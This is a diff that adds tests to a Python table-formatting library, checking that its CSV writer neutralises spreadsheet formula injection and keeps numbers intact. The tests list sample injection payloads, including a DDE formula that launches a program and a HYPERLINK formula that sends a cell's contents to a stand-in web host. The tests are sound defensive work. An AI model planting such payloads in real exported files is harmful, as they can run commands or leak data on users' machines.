@@ -1,15 +1,18 @@
 """Tables as LaTeX, Markdown, CSV and JSON."""
 
 import csv
+import io
 import json
 import math
+import re
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from nlwfa_core import NGram, RecipeError, evaluate
-from nlwfa_core.metrics.tables import Numbers, format_score, latex_text, write_table
+from nlwfa_core.metrics.tables import Numbers, csv_text, format_score, latex_text, write_table
+from tests.imports import APP, CORE, PAGES
 
 TABLE = {
     "model": ["SP, k = 5", "a|b & c_d"],
@@ -75,3 +78,53 @@ def test_names_that_end_like_a_number_stay_as_they_are_in_latex() -> None:
     table = {"key": ["7a6b84ef72e4"], "score": Numbers.of([(3.2e-5, "3.2·10⁻⁵ [1·10⁻⁶, 4·10⁻⁵]")])}
     text = write_table(table, "latex")
     assert r"7a6b84ef72e4 & 3.2$\cdot 10^{-5}$ [1$\cdot 10^{-6}$, 4$\cdot 10^{-5}$] \\" in text
+
+
+FORMULAS = (
+    "=1+2",
+    "+1",
+    "-1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org/?"&A1,"mark")',
+    " =1",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\x00=1",
+    "\u00a0@A1",
+    "\ufeff=1",
+    "\u200b-1",
+    "＝1+1",
+    "\ttext",
+)
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_is_never_a_formula_in_csv(text: str) -> None:
+    """Neither as a cell nor as a title; what follows the mark is the text itself."""
+    heading, row = csv.reader(io.StringIO(write_table({text: [text]}, "csv"), newline=""))
+    assert heading == [f"'{text}"] and row == [f"'{text}"]
+    assert json.loads(write_table({text: [text]}, "json")) == [{text: text}]
+
+
+@given(st.text())
+@example("a\r=1")
+@example("a\n=1")
+def test_no_text_in_csv_begins_like_a_formula(text: str) -> None:
+    ((cell, number),) = csv.reader(io.StringIO(csv_text([(text, 1)]), newline=""))
+    assert cell in (text, f"'{text}") and number == "1"
+    assert not "".join(character for character in cell if character.isprintable()).lstrip().startswith(("=", "+", "-", "@"))
+
+
+@given(st.floats(allow_nan=False), st.integers())
+def test_numbers_in_csv_stay_numbers(number: float, whole: int) -> None:
+    (cells,) = csv.reader(io.StringIO(csv_text([(number, whole, None)])))
+    assert (float(cells[0]), int(cells[1]), cells[2]) == (number, whole, "")
+
+
+def test_there_is_one_writer_of_csv() -> None:
+    """Apart from `nlwfa sample`, whose strings are read back as they are."""
+    writers = [
+        name for name, path in {**CORE, **PAGES, **APP}.items() if re.search(r"csv\.(Dict)?[wW]riter|to_csv", path.read_text())
+    ]
+    assert writers == ["cli.export", "metrics.tables"]
